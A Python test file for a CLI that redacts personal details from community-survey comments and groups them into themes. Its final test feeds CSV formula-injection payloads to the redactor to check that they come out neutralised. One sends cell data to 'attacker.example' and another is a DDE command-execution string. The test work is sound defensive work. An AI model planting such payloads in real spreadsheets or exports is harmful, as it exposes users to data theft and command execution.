"""`safevoice-analysis redact | themes | assign` on analysts' CSV files, including the files that go wrong."""

from __future__ import annotations

import csv
import fcntl
import os
import pty
import struct
import subprocess
import sys
import termios
from collections.abc import Callable
from pathlib import Path

import pytest

from safevoice.analysis.cli import main

COMMENTS = [
    "Dealers selling drugs outside the shops, ring me on 07700 900123.",
    "Drug dealing in the park every day.",
    "",
    "The streetlights are broken on our road.",
    "It is too dark to walk home, no lighting at all.",
    "People dealing drugs from a house near 12 Abington Street.",
    "The footpath has no lights.",
]


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def comments_csv(tmp_path: Path) -> Path:
    return write_csv(
        tmp_path / "in.csv", [["id", "comment"], *[[str(i), c] for i, c in enumerate(COMMENTS, 1)]]
    )


def test_redact_writes_the_same_file_with_the_column_redacted_and_the_types_found(
    comments_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.csv"
    assert main(["redact", str(comments_csv), "--column", "comment", "--out", str(out)]) == 0
    assert capsys.readouterr().err == ""  # not a terminal: no progress bar
    rows = read_rows(out)
    assert list(rows[0]) == ["id", "comment", "comment_personal_details"]
    assert rows[0]["comment"] == "Dealers selling drugs outside the shops, ring me on [PHONE]."
    assert rows[0]["comment_personal_details"] == "PHONE"
    assert rows[5]["comment"] == "People dealing drugs from a house near [ADDRESS]."
    assert rows[2]["comment"] == ""
    assert rows[2]["comment_personal_details"] == ""
    assert [r["id"] for r in rows] == [str(i) for i in range(1, 8)]


def test_themes_gives_each_row_a_theme_and_blank_rows_none(comments_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "themes.csv"
    assert main(["themes", str(comments_csv), "--column", "comment", "--out", str(out), "--themes", "2"]) == 0
    rows = read_rows(out)
    assert list(rows[0]) == ["row", "theme_id", "theme_label"]
    assert [r["row"] for r in rows] == [str(i) for i in range(1, 8)]
    assert rows[2]["theme_id"] == ""
    assert rows[0]["theme_id"] == rows[1]["theme_id"] == rows[5]["theme_id"]
    assert rows[3]["theme_id"] == rows[4]["theme_id"] == rows[6]["theme_id"] != rows[0]["theme_id"]
    assert "07700" not in " ".join(r["theme_label"] for r in rows)


def test_themes_summary_lists_each_theme_with_its_share_and_redacted_quotes(
    comments_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out, summary = tmp_path / "themes.csv", tmp_path / "summary.csv"
    args = ["themes", str(comments_csv), "--column", "comment", "--out", str(out), "--themes", "2"]
    assert main([*args, "--summary", str(summary)]) == 0
    assert "2 themes for 6 answers (1 blank, no theme)" in capsys.readouterr().err
    rows = read_rows(summary)
    assert list(rows[0])[:4] == ["theme_id", "theme_label", "answers", "share_of_answers"]
    assert [r["answers"] for r in rows] == ["3", "3"]
    assert [r["share_of_answers"] for r in rows] == ["0.5", "0.5"]
    quotes = " ".join(r[f"quote_{n}"] for r in rows for n in (1, 2, 3))
    assert "[PHONE]" in quotes or "[ADDRESS]" in quotes
    assert "07700" not in quotes


def test_assign_counts_rows_against_the_examples_with_a_score_per_theme(
    comments_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    examples = write_csv(
        tmp_path / "ex.csv",
        [
            ["text", "theme"],
            ["Crack dealers at the bus station.", "drugs"],
            ["Cannabis smell everywhere.", "drugs"],
            ["A drug house on our road.", "drugs"],
            ["Lamp posts on the estate are always out.", "poor lighting"],
            ["Better lighting on the footpaths.", "poor lighting"],
            ["The car park is pitch dark.", "poor lighting"],
            ["Dealers hide where the streetlights are broken.", "drugs"],
            ["Dealers hide where the streetlights are broken.", "poor lighting"],
        ],
    )
    out = tmp_path / "assigned.csv"
    assert (
        main(
            [
                "assign",
                str(comments_csv),
                "--column",
                "comment",
                "--examples",
                str(examples),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    assert "answers fit none" in capsys.readouterr().err
    rows = read_rows(out)
    assert list(rows[0]) == ["row", "themes", "score: drugs", "score: poor lighting"]
    assert rows[1]["themes"] == "drugs"
    assert rows[6]["themes"] == "poor lighting"
    assert rows[2]["themes"] == ""
    assert rows[2]["score: drugs"] == ""
    assert 0 < float(rows[1]["score: drugs"]) <= 1


def file_with(name: str, content: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(content)
        return folder / name

    return make


@pytest.mark.parametrize("command", ["redact", "themes", "assign"])
@pytest.mark.parametrize(
    ("make_input", "message"),
    [
        (lambda folder: folder / "missing.csv", "no such file"),
        (file_with("empty.csv", b""), "the file is empty"),
        (file_with("header.csv", b"comment\n"), "has a header but no rows"),
        (file_with("other.csv", b"text\nhello\n"), "no column named 'comment'"),
        (file_with("latin1.csv", "comment\ncaf\xe9 fights\n".encode("latin-1")), "is not UTF-8"),
    ],
)
def test_bad_input_gets_one_clear_line_and_a_non_zero_exit(
    command: str,
    make_input: Callable[[Path], Path],
    message: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    examples = write_csv(
        tmp_path / "ex.csv", [["text", "theme"], ["a drug house", "drugs"], ["dealers", "drugs"]]
    )
    extra = ["--examples", str(examples)] if command == "assign" else []
    status = main(
        [command, str(make_input(tmp_path)), "--column", "comment", "--out", str(tmp_path / "o.csv"), *extra]
    )
    assert status != 0
    error = capsys.readouterr().err
    assert message in error
    assert error.startswith(f"safevoice-analysis {command}: ")
    assert not (tmp_path / "o.csv").exists()


def test_assign_names_the_examples_file_when_it_lacks_a_column_or_a_theme_has_one_example(
    comments_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = write_csv(tmp_path / "ex.csv", [["text", "label"], ["a", "b"]])
    args = ["assign", str(comments_csv), "--column", "comment", "--out", str(tmp_path / "o.csv")]
    assert main([*args, "--examples", str(bad)]) == 2
    assert "no column named 'theme'" in capsys.readouterr().err
    thin = write_csv(
        tmp_path / "thin.csv",
        [["text", "theme"], ["drug house", "drugs"], ["dealers", "drugs"], ["dark", "lighting"]],
    )
    assert main([*args, "--examples", str(thin)]) == 2
    assert "too few for: lighting" in capsys.readouterr().err


def test_themes_refuses_a_column_with_nothing_written_and_a_zero_theme_count(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blank = write_csv(tmp_path / "blank.csv", [["comment"], [""], ["  "]])
    assert main(["themes", str(blank), "--column", "comment", "--out", str(tmp_path / "o.csv")]) == 2
    assert "every row of column 'comment' is blank" in capsys.readouterr().err
    some = write_csv(tmp_path / "some.csv", [["comment"], ["drugs"]])
    assert (
        main(["themes", str(some), "--column", "comment", "--out", str(tmp_path / "o.csv"), "--themes", "0"])
        == 2
    )
    assert "--themes must be 1 or more" in capsys.readouterr().err


def test_progress_shows_on_a_terminal(comments_csv: Path, tmp_path: Path) -> None:
    """(When stderr is not a terminal nothing is drawn: see the redact test above.)"""
    command = [
        str(Path(sys.executable).with_name("safevoice-analysis")),
        *("redact", str(comments_csv), "--column", "comment", "--out", str(tmp_path / "o.csv")),
    ]
    controller, terminal = pty.openpty()
    # A new pseudo-terminal is 0 columns wide, and tqdm draws nothing in no columns: give it a real size.
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=terminal) as process:
        os.close(terminal)
        shown = b""
        while True:
            try:
                chunk = os.read(controller, 4096)
            except OSError:  # the terminal closes when the command exits
                break
            if not chunk:
                break
            shown += chunk
    os.close(controller)
    assert process.returncode == 0
    assert b"Redacting" in shown
    assert b"6/6" in shown


def test_redact_writes_no_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
    comments = write_csv(
        tmp_path / "in.csv",
        [
            ["id", "comment"],
            ["1", '=HYPERLINK("http://attacker.example/?"&A1,"Click for more")'],
            ["2", "+cmd|' /C calc'!A0"],
            ["3", "-2+3 people saw it"],
            ["4", "@SUM(1+1)"],
            ["5", "Nothing odd here"],
        ],
    )
    out = tmp_path / "out.csv"
    assert main(["redact", str(comments), "--column", "comment", "--out", str(out)]) == 0
    rows = read_rows(out)
    assert [row["comment"][:1] for row in rows[:4]] == ["'", "'", "'", "'"]
    assert rows[0]["comment"].startswith("'=HYPERLINK(")
    assert rows[4]["comment"] == "Nothing odd here"
